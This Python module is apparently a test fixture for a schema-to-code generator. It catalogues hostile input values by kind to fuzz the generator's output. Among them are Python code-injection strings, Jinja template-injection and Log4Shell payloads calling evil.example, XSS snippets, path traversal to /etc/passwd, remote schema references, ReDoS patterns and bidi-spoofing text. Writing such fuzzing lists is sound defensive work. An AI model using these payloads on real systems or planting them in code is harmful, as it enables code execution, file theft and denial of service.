"""What a hostile vendor would write, by kind: more than two hundred values for any place.

Each value is put into every place of :mod:`sinks`. After ``security-notes``: the advisories of
generators of the last years, and what each of their fixes left open.
"""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import zip_longest

from typewright.catalogue.model import Json


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile value; ``kind`` says what it is up to."""

    kind: str
    value: Json

    @property
    def title(self) -> str:
        """For the report of a failure: short and in ASCII."""
        return f"{self.kind}: {self.value!a:.60}"


_QUOTES = (
    *("'", '"', "''", '""', "'''", '"""', "a'b", 'a"b', "'\"", "\"'", '""""', "''''"),
    *("\"; import os; '", "'; import os; \"", "')", '")', "`", "``", "a' 'b", '"+x+"'),
)
_DOCSTRING_ENDS = (
    '"""\nimport os\n"""',
    '"""; __import__("os").system("id"); """',
    'a\\"""',
    'a\\\\"""',
    '""\\"',
    'ends with one quote"',
    'ends with two quotes""',
    'ends with a backslash and a quote\\"',
    "'''\nimport os\n'''",
    '"""\n\nclass Input:\n    pass\n"""',
    '"" "\nimport os\n"" "',
    '\n"""\n',
)
_BACKSLASHES = (
    *("\\", "\\\\", "\\\\\\", "a\\", "\\n", "\\x41", "\\u0041", "\\U00000041", "\\N{DIGIT ONE}"),
    *("\\'", '\\"', "\\\n", "\\x", "\\u12", "\\8", "\\0", "\\N{", "C:\\new\\table"),
)
_LINE_ENDS = tuple(
    f"a{end}import os{end}b"
    for end in ("\n", "\r", "\r\n", "\n\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85")
) + ("a\u2028import os", "a\u2029import os", "\n", "\r", "\u2028", "\n\n\n", "a\n#\n")
_CONTROLS = (
    *("\x00", "a\x00b", "\x01", "\x08\x08\x08", "\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J"),
    *("\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x7f", "\x80", "\x9b31m", "\x9d0;t\x9c"),
    *("\x90q\x9c", "\t", "a\tb", "\x1a", "\x04", "\x07"),
)
_BIDI = (
    *(f"a{mark}b" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    *(f"a{mark}b" for mark in "\u200e\u200f\u061c"),
    "access_level != \u202e \u2066// user\u2069 \u2066",
    "\u202egnp.exe",
)
_INVISIBLE = (
    *(f"a{mark}b" for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\uffa0"),
    *("\u00a0", "\u2003a", "a\ufe0f", "a\U000e0041\U000e007f", "\ufff9a\ufffb", "\ufffe", "\uffff"),
    "\U0001f468\u200d\U0001f469",
)
_SURROGATES = (
    *("\ud800", "\udfff", "a\ud83d", "\ude00a", "\udc80", "\ude00\ud83d", "\ud800\ud800"),
    "\udcff/../x",
)
_FORMATS = (
    *("{}", "{0}", "{x!r}", "{x.__class__}", "{0.__init__.__globals__}", "{{", "}}", "{", "}"),
    *("%s", "%(x)s", "%n", "%", "$x", "${x}", "${jndi:ldap://evil.example/a}", "f'{x}'", "{:>9999999}"),
)
_TEMPLATES = (
    *("{{ 7*7 }}", "{% raw %}", "{% endraw %}", "{% include 'x' %}", "{#", "#}", "{%- for x in y %}"),
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context }}",
    "{{ view.doc }}",
    "{% set x = 1 %}{{ x }}",
    "# for x in y",
    "<% x %>",
)
_COMMENTS = (
    *("#", "# type: ignore", "# type: int", "# noqa", "# fmt: off", "# fmt: skip", "# pyright: basic"),
    *("#!/bin/sh", "# -*- coding: utf-7 -*-", "# mypy: ignore-errors", "a  # comment", "-- x", "//", "/*"),
    *("<!-- x -->", "-->", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
    *("[x](javascript:alert(1))", "![x](https://evil.example/t.png)", "| a | b |", "\\|", "```\nx\n```"),
)
_CODE = (
    "__import__('os').system('id')",
    "None\nimport os",
    "str = __import__('os')",
    "x: int = open('/etc/passwd').read()",
    "a, b",
    "a=1, **x",
    "*args",
    "a: int",
    "lambda: 0",
    "(yield)",
    "@evil",
    "pass; import os",
    "list[int]",
    "typing.Any",
    "a.b",
    "a[0]",
    "eval(input())",
)
_DUNDERS = (
    *("__class__", "__init__", "__init_subclass__", "__getattr__", "__all__", "__slots__", "__doc__"),
    *("__annotations__", "__pydantic_config__", "__module__", "__call__", "__", "_", "__private"),
    *("__builtins__", "__path__", "__name__", "model_config", "model_fields", "model_validate"),
)
_KEYWORDS = (
    *("class", "def", "None", "True", "import", "lambda", "async", "await", "print", "match", "type"),
    *("self", "cls", "list", "str", "dict", "object", "Any", "Literal", "Field", "SPEC", "UNSET"),
    *("Input", "Output", "Spec", "validate", "json", "copy", "schema", "construct", "files", "exec"),
    *("run", "submit", "close", "provider", "con", "_con", "aux_", "nul", "com1", "lpt9", "init", "Make"),
)
_TWINS = (
    *("\uff50\uff52\uff4f\uff4d\uff50\uff54", "\ufb01le", "file", "\u212a", "k", "caf\u00e9", "cafe\u0301"),
    *("\u0430", "\u03bf", "\u0131", "\u0130", "\u1d2c", "\u2460", "\u00b2", "x\u00b2", "\U0001d41a", "\u017f"),
    *("\uff3f\uff3f\uff43\uff4c\uff41\uff53\uff53\uff3f\uff3f", "e\u0332", "\u3000", "\u5b57", "promp\u0442"),
    *("PROMPT", "Prompt", "prompt ", "pro-mpt", "pro mpt"),
)
_PATHS = (
    *("..", "../..", "../../../etc/passwd", "/etc/passwd", "a/../../b", "./a", "a//b", "a/", "/", "."),
    *("..\\..\\x", "C:\\x", "C:/x", "\\\\host\\share", "~/x", "$HOME/x", "a/.", "a/..", "file:///etc/passwd"),
    *("%2e%2e%2f", "..%2f", "a\\b", "a:b", "a::$DATA", "acme/one/make/..", "x" * 300, "a/" * 40 + "b"),
    *("/dev/stdin", "/proc/self/environ", "|id", "acme/two/.git", "acme/two/-rf", "acme/two/ ", "acme/t\u00f6"),
)
_DEVICES = (
    *("CON", "nul", "AUX.txt", "com1", "LPT1.json", "PRN", "con.", "COM\u00b9", "CONIN$", "acme/con/x"),
    *("acme/two/NUL", "acme/two/nul.tar.gz", "acme/_con/x", "con_/two/x", "_aux/two/x"),
)
_HUGE: tuple[Json, ...] = (
    "x" * 100_000,
    "a " * 50_000,
    "\n" * 50_000,
    '"' * 50_000,
    "\\" * 50_000,
    "\u5b57" * 50_000,
    10**300,
    -(10**300),
    2**63,
    2**64,
    -(2**63) - 1,
    1e308,
    5e-324,
    -0.0,
    0.1,
    10**18 + 1,
    ["x"] * 5_000,
)
_DEEP: tuple[Json, ...]
_KEYWORD_OBJECTS: tuple[Json, ...] = (
    {"customTypePath": "os.system"},
    {"customBasePath": "os.system"},
    {"x-python-type": "os.system"},
    {"x-python-import": {"module": "os", "name": "system"}},
    {"default_factory": "os.getcwd"},
    {"type": "string", "customTypePath": "os.system"},
    {"type": "object", "properties": {"a": {"customBasePath": "os"}}},
    {"$id": "https://evil.example/s", "type": "string"},
    {"$anchor": "a"},
    {"$dynamicRef": "#meta"},
    {"allOf": [{"type": "string"}]},
    {"discriminator": {"propertyName": "a"}},
    {"type": "string", "x-enum-varnames": ["import os"]},
    {"type": "object", "patternProperties": {"(a*)*": {}}},
)
_KEYWORD_NAMES = (
    *("customTypePath", "customBasePath", "x-python-type", "x-python-import", "default_factory"),
    *("$id", "$anchor", "$dynamicRef", "x-enum-varnames", "allOf", "nullable", "x-order", "typing.Any"),
)
_REFERENCES = (
    *("#", "#/", "#/$defs", "#/$defs/none", "#/properties/prompt", "#/properties/nested", "#prompt"),
    *("https://evil.example/s.json", "http://127.0.0.1/s", "//evil.example/s", "file:///etc/passwd"),
    *("input.schema.json", "../../../../etc/passwd", "./x#/a", "urn:typewright:meta:dialect", "x#/a"),
    *("#/%24defs/Size", "#/~2", "#/properties/prompt/title", "#/properties/prompt/enum/0", "data:,{}"),
    "https://json-schema.org/draft/2020-12/schema",
)
_REFERENCE_OBJECTS: tuple[Json, ...] = (
    {"$ref": "https://evil.example/s.json"},
    {"$ref": "file:///etc/passwd"},
    {"$ref": "../../x.json"},
    {"$ref": "#"},
    {"$ref": "#/properties/prompt"},
    {"$ref": "#/$defs/Size", "$ref ": 1},
    {"$ref": 7},
)
_PATTERNS = (
    *("(a+)+$", "(a|a)*b", "(a|aa)+$", "(.*)*x", "^(([a-z])+.)+[A-Z]([a-z])+$", ".*.*.*.*x"),
    *("a?" * 30 + "a" * 30, "a{0,20}" * 12 + "x", "(?:a{1,20}b?){15}c", "\\s*\\s*\\s*$"),
    *("(?<=a+)b", "(?P<x>a)", "(?i)a", "[[:alpha:]]", "\\p{L}", "(?R)", "(a)\\2", "x{1000000000}", "(", "["),
    *("(" * 200 + ")" * 200, "a" * 600, "(?#c)a", "\\Aa\\Z", "a**", "*", "(?:)*", "[z-a]"),
)
_TYPES: tuple[Json, ...] = (None, True, False, 0, -1, 7, [], {}, [None], [[]], {"": ""}, "", " ")


def _nested(depth: int) -> Json:
    value: Json = "x"
    for level in range(depth):
        value = [value] if level % 2 else {"a": value}
    return value


_DEEP = tuple(_nested(depth) for depth in (3, 20, 45, 70, 200))

KINDS: Mapping[str, tuple[Json, ...]] = {
    "quotes": _QUOTES,
    "docstring ends": _DOCSTRING_ENDS,
    "backslashes": _BACKSLASHES,
    "line ends": _LINE_ENDS,
    "controls": _CONTROLS,
    "bidi": _BIDI,
    "invisible": _INVISIBLE,
    "surrogates": _SURROGATES,
    "format syntax": _FORMATS,
    "Jinja syntax": _TEMPLATES,
    "comments": _COMMENTS,
    "code": _CODE,
    "dunders": _DUNDERS,
    "keywords": _KEYWORDS,
    "NFKC twins": _TWINS,
    "paths": _PATHS,
    "devices": _DEVICES,
    "huge": _HUGE,
    "deep": _DEEP,
    "generator keywords": (*_KEYWORD_NAMES, *_KEYWORD_OBJECTS),
    "references": (*_REFERENCES, *_REFERENCE_OBJECTS),
    "patterns": _PATTERNS,
    "types": _TYPES,
}

PAYLOADS = tuple(Payload(kind, value) for kind, values in KINDS.items() for value in values)


def _in_turn() -> Iterator[Payload]:
    for row in zip_longest(*KINDS.values(), fillvalue=_NONE):
        yield from (
            Payload(kind, value) for kind, value in zip(KINDS, row, strict=True) if value is not _NONE
        )


_NONE: Json = "no more of this kind"

IN_TURN = tuple(_in_turn())
"""The same, a value of each kind after the other: any stretch of it is a fair sample."""
